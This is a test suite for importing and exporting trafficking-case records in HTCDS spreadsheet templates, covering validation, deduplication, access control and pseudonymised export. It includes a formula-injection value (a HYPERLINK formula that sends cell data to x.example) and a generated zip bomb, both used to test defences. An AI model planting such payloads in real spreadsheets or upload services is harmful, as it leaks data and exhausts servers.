import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { desc, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addCalendarMonths, type Cell, fromDayNumber, type HtcdsImportResult, kazakhstanDate, parseHtcdsTable, toDayNumber } from '@qorgau/core';
import { rowsOf } from '../src/db/client.ts';
import { auditLog, entitlements, htcdsImports } from '../src/db/schema.ts';
import { recomputeEntitlements } from '../src/modules/entitlements/entitlements.service.ts';
import { createHtcdsImportService } from '../src/modules/exchange/htcds-import.service.ts';
import { checkXlsxZip } from '../src/modules/exchange/uploaded-table.ts';
import { createTestApp, type Session, type TestApp } from './test-app.ts';
import { describeEachDb } from './test-db.ts';

const TEMPLATE = new URL('../../../reference/htcds/htcds-template-single-select-v2.0.xlsx', import.meta.url);
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const YEAR = 2025;
/** The persons an import made: its cases are opened by an action naming it. */
const personsImportedBy = (importId: string | undefined) =>
  sql`SELECT c.person_id FROM cases c JOIN case_actions a ON a.case_id = c.id WHERE a.type = 'opened' AND a.details->>'htcdsImport' = ${importId}`;

type RowValues = Record<string, string | Date | number>;

/** The official single-select template with rows filled in as a person would (labels from the drop-downs, dates as Excel dates or DD.MM.YYYY). */
async function filledTemplate(rows: RowValues[], extraColumns: string[] = []): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(readFileSync(TEMPLATE) as unknown as ArrayBuffer);
  const sheet = wb.getWorksheet('Case Sheet') as ExcelJS.Worksheet;
  const header = sheet.getRow(1);
  const at = new Map<string, number>();
  header.eachCell((c, n) => at.set(String(c.value), n));
  let next = header.cellCount + 1;
  for (const code of extraColumns) {
    header.getCell(next).value = code;
    at.set(code, next++);
  }
  rows.forEach((values, i) => {
    const row = sheet.getRow(3 + i);
    for (const [code, v] of Object.entries(values)) row.getCell(at.get(code) as number).value = v;
  });
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const goodRow = (first: string, second: string, extra: RowValues = {}): RowValues => ({
  prs_FirstName: first,
  prs_SecondName: second,
  prs_Birthdate: new Date(Date.UTC(1996, 4, 17)),
  prs_Gender: 'Feminine',
  prs_Citizenship: 'UZ',
  vic_TraffickingStatus: 'Actual victim of trafficking',
  vic_TraffickinStatusDecisionMakingOrg: 'Police',
  vic_TypeOfExploitation: 'Forced labour',
  vic_MethodsOfControl: 'Withholds documents',
  vic_ForcedLabourIndustry: 'Agriculture, forestry and fishing',
  cas_Status: 'Active',
  cas_IncomingReferralDate: `14.03.${YEAR}`,
  vic_LocationOfRecruitment: 'Ташкент, автовокзал',
  ...extra,
});

describeEachDb('HTCDS import and export', (kind) => {
  let t: TestApp;
  let ngo: string;
  let police: string;
  let analyst: Session;
  let caseworker: Session;
  let coordinator: Session;

  const upload = (s: Session, body: Buffer | string, query = '', type = XLSX) =>
    s.inject({ method: 'POST', url: `/api/v1/exchange/htcds/imports${query}`, headers: { 'content-type': type }, payload: body });
  const fieldsOf = (res: { json(): unknown }) => (res.json() as { error: { fields: { path: string; code: string; message: string }[] } }).error.fields;
  const personCount = async () => Number(rowsOf<{ n: string }>(await t.deps.db.execute(sql`SELECT count(*) AS n FROM persons`))[0]?.n);
  const victimsOf = async (year: number) =>
    ((await coordinator.inject({ method: 'GET', url: `/api/v1/statistics/year?year=${year}` })).json() as { victims: { total: number } }).victims.total;

  beforeAll(async () => {
    t = await createTestApp(kind);
    ngo = await t.createAgency({ type: 'ngo', regionCode: 'KZ-75' });
    police = await t.createAgency({ type: 'police', regionCode: 'KZ-61' });
    const ministry = await t.createAgency({ type: 'national_coordination', regionCode: null });
    analyst = await t.as('analyst', { agencyId: ngo, regions: 'national' });
    caseworker = await t.as('case_worker', { agencyId: ngo, regions: ['KZ-75'] });
    coordinator = await t.as('national_coordinator', { agencyId: ministry, regions: 'national' });
  });
  afterAll(() => t.close());

  describe('import', () => {
    let file: Buffer;
    let first: HtcdsImportResult;

    it('takes in the official template: good rows kept, every kind of bad row reported by row, column and reason, audited with the hash', async () => {
      file = await filledTemplate(
        [
          goodRow('Гулноза', 'Каримова'),
          goodRow('Dilnoza', 'Rahimova', { prs_Birthdate: '02.11.2001', prs_MobilePhone: '+998 90 123-45-67' }),
          goodRow('Айнұр', 'Серікова', { prs_Citizenship: 'KAZ', vic_TraffickingStatus: 'Possible victim of trafficking' }),
          goodRow('Nodira', 'Yusupova', { prs_Birthdate: '1996/05/17' }),
          goodRow('Malika', 'Tosheva', { prs_Gender: 'Female' }),
          goodRow('Zarina', 'Aliyeva', { vic_TypeOfExploitation: 'Forced Labor' }),
          goodRow('', 'Umarova'),
          goodRow('Sabina', 'Nazarova', { prs_Citizenship: 'Narnia', cas_IncomingReferralDate: '31.02.2025' }),
          goodRow('Feruza', 'Saidova', { vic_MethodsOfControl: '=HYPERLINK("http://x.example/?"&A1)' }),
          goodRow('Lola', 'Hamidova', { prs_Birthdate: '01.01.2090' }),
        ],
        [],
      );
      const before = await personCount();
      const res = await upload(analyst, file);
      expect(res.statusCode).toBe(200);
      first = res.json();
      expect(first).toMatchObject({ dryRun: false, format: 'xlsx', rowsRead: 10, created: 3, alreadyImported: 0, rejected: 7, linked: 0 });
      expect(first.issues.map((i) => [i.row, i.column, i.code])).toEqual([
        [6, 'prs_Birthdate', 'date_format'],
        [7, 'prs_Gender', 'htcds_other_version'],
        [8, 'vic_TypeOfExploitation', 'htcds_not_in_list'],
        [9, 'prs_FirstName', 'required'],
        [10, 'prs_Citizenship', 'country_unknown'],
        [10, 'cas_IncomingReferralDate', 'date_invalid'],
        [11, 'vic_MethodsOfControl', 'htcds_not_in_list'],
        [12, 'prs_Birthdate', 'date_in_future'],
      ]);
      expect(first.issues.every((i) => i.message.length > 10 && !i.message.includes('validation.'))).toBe(true);
      expect(await personCount()).toBe(before + 3);
      const [audit] = await t.deps.db.select().from(auditLog).where(eq(auditLog.operation, 'htcds.imported')).orderBy(desc(auditLog.at)).limit(1);
      expect(audit?.details).toMatchObject({ sha256: createHash('sha256').update(file).digest('hex'), created: 3, rejected: 7, agencyId: ngo });
      expect(JSON.stringify(audit?.details)).not.toMatch(/Гулноза|Каримова/);
    });

    it('a re-import of the same file creates nothing; a dry run writes nothing; the analyst reads no record back', async () => {
      const before = await personCount();
      const again = (await upload(analyst, file)).json() as HtcdsImportResult;
      expect(again).toMatchObject({ created: 0, alreadyImported: 3, rejected: 7 });
      const fixed = await filledTemplate([goodRow('Гулноза', 'Каримова'), goodRow('Nodira', 'Yusupova', { prs_Birthdate: '17.05.1996' })]);
      const dry = (await upload(analyst, fixed, '?dryRun=true')).json() as HtcdsImportResult;
      expect(dry).toMatchObject({ dryRun: true, created: 1, alreadyImported: 1, rejected: 0 });
      expect(await personCount()).toBe(before);
      const [stored] = await t.deps.db.select().from(htcdsImports).where(eq(htcdsImports.id, dry.importId));
      expect(stored?.dryRun).toBe(true);
      expect((await analyst.inject({ method: 'GET', url: '/api/v1/persons' })).statusCode).toBe(403);
    });

    it('the row report is a formula-safe CSV of every issue in the chosen language', async () => {
      const res = await analyst.inject({ method: 'GET', url: `/api/v1/exchange/htcds/imports/${first.importId}/report?lang=ru` });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toContain('text/csv');
      const lines = res.body
        .replace(/^\ufeff/, '')
        .trim()
        .split('\r\n');
      expect(lines[0]).toBe('Строка,Столбец,Код,Проблема');
      expect(lines[1]).toBe('row,column,code,message');
      expect(lines).toHaveLength(2 + 8);
      // The bad value is quoted inside the message, never at the start of a cell a spreadsheet would run.
      expect(res.body).toContain('HYPERLINK');
      expect(res.body).not.toMatch(/(^|[,\n])"?=/);
      const other = await t.as('analyst', { agencyId: police, regions: 'national' });
      expect((await other.inject({ method: 'GET', url: `/api/v1/exchange/htcds/imports/${first.importId}/report` })).statusCode).toBe(404);
    });

    it('a person another agency already holds is linked, and the year counts her once', async () => {
      const iin = { prs_IdentityNumber: '960517450123' };
      const policeFile = await filledTemplate([goodRow('Шахноза', 'Эргашева', iin)], ['prs_IdentityNumber']);
      const byPolice = (await upload(coordinator, policeFile, `?agencyId=${police}`)).json() as HtcdsImportResult;
      expect(byPolice).toMatchObject({ created: 1, linked: 0 });
      const victimsBefore = await victimsOf(YEAR);
      const ngoFile = await filledTemplate(
        [goodRow('Shakhnoza', 'Ergasheva', { ...iin, vic_TraffickinStatusDecisionMakingOrg: 'NGO' })],
        ['prs_IdentityNumber'],
      );
      const byNgo = (await upload(analyst, ngoFile)).json() as HtcdsImportResult;
      expect(byNgo).toMatchObject({ created: 1, linked: 1 });
      expect(await victimsOf(YEAR)).toBe(victimsBefore);
      // An analyst imports for her own agency only.
      const elsewhere = await upload(analyst, ngoFile, `?agencyId=${police}`);
      expect(elsewhere.statusCode).toBe(403);
    });
  });

  it('reads the other official template (multi-select, no drop-downs): several values in one cell', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(readFileSync(new URL('../../../reference/htcds/htcds-template-v2.0.xlsx', import.meta.url)) as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0] as ExcelJS.Worksheet;
    const at = new Map<string, number>();
    sheet.getRow(1).eachCell((c, n) => at.set(String(c.value), n));
    const values: RowValues = goodRow('Жанар', 'Оспанова', {
      prs_Citizenship: 'KGZ',
      vic_TypeOfExploitation: 'Forced labour; Sexual exploitation',
      vic_MethodsOfControl: 'PhysicalThreats;DebtBondage ;Withholds documents',
    });
    for (const [code, v] of Object.entries(values)) sheet.getRow(3).getCell(at.get(code) as number).value = v;
    const res = (await upload(caseworker, Buffer.from(await wb.xlsx.writeBuffer()))).json() as HtcdsImportResult;
    expect(res).toMatchObject({ rowsRead: 1, created: 1, rejected: 0 });
    const back = await caseworker.inject({ method: 'GET', url: `/api/v1/exchange/htcds/export?year=${YEAR}&format=csv` });
    const line = back.body.split('\r\n').find((l) => l.includes('Жанар')) ?? '';
    expect(line).toContain('ForcedLabour; SexualExploitation');
    expect(line).toContain('PhysicalThreats; DebtBondage; WithholdsDocuments');
    expect(line).toContain(',KG,');
  });

  it('two rows of one woman in one file, in two scripts, are linked to each other as the intake would', async () => {
    const same = { prs_IdentityNumber: '010203450987', prs_Birthdate: '03.02.2001', prs_Citizenship: 'KZ' };
    const file = await filledTemplate([goodRow('Әсел', 'Нұрланқызы', same), goodRow('Asel', 'Nurlankyzy', same)], ['prs_IdentityNumber']);
    const res = (await upload(caseworker, file)).json() as HtcdsImportResult;
    expect(res).toMatchObject({ created: 2, linked: 0 });
    const clusters = rowsOf<{ n: string }>(
      await t.deps.db.execute(sql`
        SELECT count(DISTINCT pc.cluster_id) AS n FROM (${personsImportedBy((await t.deps.db.select().from(htcdsImports).where(eq(htcdsImports.sha256, res.sha256)))[0]?.id)}) r
        JOIN person_clusters pc ON pc.person_id = r.person_id`),
    );
    expect(Number(clusters[0]?.n)).toBe(1);
  });

  it("a foreign victim identified elsewhere five months ago gets her reflection period's reminders; history and open-ended services are derived when read", async () => {
    const today = kazakhstanDate(new Date());
    const t0 = toDayNumber(today);
    // Identified 160 days ago: six months end within the 30 days the queue calls lapsing.
    const recent = fromDayNumber(t0 - 160);
    const dmy = (iso: string) => iso.split('-').reverse().join('.');
    const file = await filledTemplate(
      [
        goodRow('Мадина', 'Эргашева', { qrg_TraffickingStatusDate: dmy(recent), prs_Birthdate: '02.02.1992' }),
        goodRow('Nodira', 'Alimova', { qrg_TraffickingStatusDate: '14.03.2019', prs_Birthdate: '03.03.1993' }),
        goodRow('Гүлмира', 'Оспанова', { qrg_TraffickingStatusDate: dmy(recent), prs_Citizenship: 'KZ', prs_Birthdate: '04.04.1994' }),
        goodRow('Zarina', 'Tosheva', { vic_TraffickingStatus: 'Possible victim of trafficking', prs_Birthdate: '05.05.1995' }),
      ],
      ['qrg_TraffickingStatusDate'],
    );
    const res = (await upload(caseworker, file)).json() as HtcdsImportResult;
    expect(res).toMatchObject({ created: 4, rejected: 0 });
    const stored = rowsOf<{ person_id: string; kind: string; state: string; starts_on: string; ends_on: string | null; case_id: string }>(
      await t.deps.db.execute(sql`
        SELECT e.person_id, e.kind, e.state, e.starts_on, e.ends_on, e.case_id FROM entitlements e
        WHERE e.person_id IN (${personsImportedBy(res.importId)}) ORDER BY e.kind`),
    );
    // Only Madina's, all nine of them, her clocks started on the day she was identified.
    expect(new Set(stored.map((r) => r.person_id)).size).toBe(1);
    expect(stored).toHaveLength(9);
    const end = addCalendarMonths(recent, 6);
    expect(stored.find((r) => r.kind === 'reflection_period')).toMatchObject({ state: 'lapsing', starts_on: recent, ends_on: end });
    // The same rows as a recompute stores for her.
    const personId = stored[0]?.person_id as string;
    await t.deps.db.transaction((tx) => recomputeEntitlements(tx, t.deps, personId));
    const again = await t.deps.db.select().from(entitlements).where(eq(entitlements.personId, personId)).orderBy(entitlements.kind);
    expect(again.map((r) => ({ person_id: r.personId, kind: r.kind, state: r.state, starts_on: r.startsOn, ends_on: r.endsOn, case_id: r.caseId }))).toEqual(
      stored,
    );
    // Her NGO's case worker finds her in the lapsing queue.
    const work = (await caseworker.inject({ method: 'GET', url: '/api/v1/work' })).json() as { queues: { id: string; items: { href: string }[] }[] };
    expect(work.queues.find((q) => q.id === 'entitlements_lapsing')?.items.map((i) => i.href)).toContain(`/persons/${personId}`);
  });

  it('a file taken in slices (100,000 rows go 5,000 at a time) makes the same records: each row once, linked across slices', async () => {
    const same = { prs_IdentityNumber: '950811450321', prs_Birthdate: '11.08.1995', prs_Citizenship: 'KZ' };
    const born = (day: number) => ({ prs_Birthdate: `${day}.02.1990` });
    const rows = [
      goodRow('Гүлнұр', 'Сәрсенова', same),
      goodRow('Малика', 'Юсупова', born(1)),
      goodRow('Gulnur', 'Sarsenova', same),
      goodRow('Дилноза', 'Каримова', born(2)),
      goodRow('Айжан', 'Бекова', born(3)),
    ];
    const file = await filledTemplate(rows, ['prs_IdentityNumber']);
    const u = caseworker.user;
    const importer = {
      userId: u.id,
      actor: { userId: u.id, role: u.role, agencyId: u.agencyId, jurisdiction: { national: false as const, regions: ['KZ-75'] } },
    };
    const audit = { actor: { id: u.id, username: u.username, role: u.role, agencyId: u.agencyId }, ip: null };
    const sliced = createHtcdsImportService(t.deps, { sliceRows: 2 });
    const res = await sliced.import(importer, audit, file, { dryRun: false, locale: 'en' });
    expect(res).toMatchObject({ created: 5, rejected: 0, linked: 0 });
    const made = rowsOf<{ persons: number; cases: number; opened: number; decided: number; keys: number }>(
      await t.deps.db.execute(sql`
        SELECT count(DISTINCT c.person_id)::int AS persons, count(DISTINCT c.id)::int AS cases,
               (count(*) FILTER (WHERE a.type = 'opened'))::int AS opened, (count(*) FILTER (WHERE a.type = 'identification_decided'))::int AS decided,
               (count(DISTINCT c.htcds_row_key) FILTER (WHERE a.type = 'opened'))::int AS keys
        FROM case_actions a JOIN cases c ON c.id = a.case_id WHERE a.details->>'htcdsImport' = ${res.importId}`),
    )[0];
    expect(made).toEqual({ persons: 5, cases: 5, opened: 5, decided: 5, keys: 5 });
    // The first and third rows are one woman, in two scripts and two slices: one cluster.
    const clusters = rowsOf<{ n: number; members: number }>(
      await t.deps.db.execute(sql`
        SELECT count(DISTINCT pc.cluster_id)::int AS n, count(*)::int AS members FROM (${personsImportedBy(res.importId)}) r
        JOIN person_clusters pc ON pc.person_id = r.person_id`),
    )[0];
    expect(clusters).toEqual({ n: 1, members: 2 });
    const again = await sliced.import(importer, audit, file, { dryRun: false, locale: 'en' });
    expect(again).toMatchObject({ created: 0, alreadyImported: 5 });
  });

  describe('bad files', () => {
    it('names what is wrong with a file that is not the template, has renamed columns, is too large, or is a zip bomb; nothing is written', async () => {
      const before = await personCount();
      const notTemplate = await upload(analyst, 'Name,Surname,Age\nA,B,3\n', '', 'text/csv');
      expect(notTemplate.statusCode).toBe(400);
      expect(fieldsOf(notTemplate)).toMatchObject([{ path: 'file', code: 'htcds_not_template' }]);
      const renamed = await upload(
        analyst,
        'Given name,prs_SecondName,prs_Citizenship,vic_TraffickingStatus\nA,B,KZ,ActualVictimOfTrafficking\n',
        '',
        'text/csv',
      );
      expect(fieldsOf(renamed)[0]).toMatchObject({ path: 'file', code: 'htcds_columns_missing' });
      expect(fieldsOf(renamed)[0]?.message).toContain('prs_FirstName');
      expect(fieldsOf(renamed)[0]?.message).toContain('Given name');
      const huge = await upload(analyst, Buffer.alloc(50 * 1024 * 1024, 0x41), '', 'text/csv');
      expect(huge.statusCode).toBe(400);
      expect(fieldsOf(huge)).toMatchObject([{ path: 'file', code: 'attachment_too_large' }]);
      // 410 MB of zeros in a 400 KB "workbook".
      const bomb = Buffer.from(
        zipSync({ 'xl/workbook.xml': new TextEncoder().encode('<workbook/>'), 'xl/worksheets/sheet1.xml': new Uint8Array(410 * 1024 * 1024) }, { level: 9 }),
      );
      expect(bomb.length).toBeLessThan(1024 * 1024);
      const bombed = await upload(analyst, bomb);
      expect(fieldsOf(bombed)).toMatchObject([{ path: 'file', code: 'file_zip_bomb' }]);
      const broken = await upload(analyst, Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200, 7)]));
      expect(fieldsOf(broken)).toMatchObject([{ path: 'file', code: 'file_not_xlsx' }]);
      expect(await personCount()).toBe(before);
      expect((await coordinator.inject({ method: 'GET', url: '/api/v1/statistics/year?year=2025' })).statusCode).toBe(200);
    });

    it('the zip guard counts the bytes an entry really inflates to, not what the zip declares', () => {
      const small = Buffer.from(zipSync({ 'xl/workbook.xml': new Uint8Array(10), 'a.xml': new Uint8Array(2 * 1024 * 1024) }));
      expect(() => checkXlsxZip(small, 1024 * 1024)).toThrow();
      expect(() => checkXlsxZip(small, 4 * 1024 * 1024)).not.toThrow();
    });
  });

  describe('export', () => {
    it('round-trips the official template: what was imported is exported with the same HTCDS values, in the template shape', async () => {
      const source = await filledTemplate([
        goodRow('Мадина', 'Жумабаева', {
          prs_Citizenship: 'KG',
          prs_MobilePhone: '+996555123456',
          prs_Email: 'madina@example.org',
          vic_MethodOfRecruitment: 'Through online social networks',
          vic_TypeOfExploitation: 'Sexual exploitation',
          vic_TypeOfSexExploitation: 'Prostitution',
          cas_ReasonForIncomingReferral: 'Additional Services Required',
          cas_OutgoingReferralDate: `01.06.${YEAR}`,
          con_Consent: 'TRUE',
        }),
      ]);
      const imported = (await upload(caseworker, source)).json() as HtcdsImportResult;
      expect(imported.created).toBe(1);
      const res = await caseworker.inject({ method: 'GET', url: `/api/v1/exchange/htcds/export?year=${YEAR}&format=xlsx&lang=kk` });
      expect(res.statusCode).toBe(200);
      const read = async (bytes: Buffer) => {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(bytes as unknown as ArrayBuffer);
        const grid: Cell[][] = [];
        wb.worksheets[0]?.eachRow({ includeEmpty: true }, (row, n) => {
          const cells: Cell[] = [];
          row.eachCell({ includeEmpty: true }, (c, i) => {
            cells[i - 1] = c.value as Cell;
          });
          grid[n - 1] = cells;
        });
        return Array.from(grid, (r) => r ?? []);
      };
      const exported = await read(res.rawPayload);
      expect(exported[1]?.[2]).toBe('Аты');
      const opts = { today: kazakhstanDate(new Date()), defaultRegion: 'KZ-75' };
      const back = parseHtcdsTable(exported, { ...opts, labels: { prs_FirstName: ['Аты'], prs_SecondName: ['Тегі'] } });
      const original = parseHtcdsTable(await read(source), opts);
      expect(back.ok && original.ok).toBe(true);
      if (!back.ok || !original.ok) return;
      const mine = back.rows.find((r) => r.person.firstName === 'Мадина');
      expect(mine?.extra).toEqual(original.rows[0]?.extra);
      expect(mine?.person).toEqual({ ...original.rows[0]?.person });
      expect(mine?.case).toEqual({ ...original.rows[0]?.case });
      // Only her agency's records, with names she may see.
      expect(back.rows.every((r) => r.person.firstName !== 'Шахноза')).toBe(true);
    });

    it('nationally, the coordinator exports pseudonymised records; the analyst may not export; both are audited or refused', async () => {
      const res = await coordinator.inject({ method: 'GET', url: `/api/v1/exchange/htcds/export?year=${YEAR}&format=csv` });
      expect(res.statusCode).toBe(200);
      const lines = res.body
        .replace(/^\ufeff/, '')
        .trim()
        .split('\r\n');
      expect(lines[0]?.startsWith('cas_CaseOwner,prs_Salutation,prs_FirstName')).toBe(true);
      expect(lines.length).toBeGreaterThan(4);
      expect(res.body).not.toMatch(/Гулноза|Мадина|madina@example/);
      expect(res.body).toMatch(/P-[0-9A-Z]{6}/);
      const [audit] = await t.deps.db.select().from(auditLog).where(eq(auditLog.operation, 'htcds.exported')).orderBy(desc(auditLog.at)).limit(1);
      // Names only where she may see them: the one record she imported herself (for the police), not the NGO's.
      expect(res.body).toContain('Шахноза');
      expect(audit?.details).toMatchObject({ year: YEAR, format: 'csv', withNames: true });
      expect((await analyst.inject({ method: 'GET', url: `/api/v1/exchange/htcds/export?year=${YEAR}` })).statusCode).toBe(403);
    });
  });
});
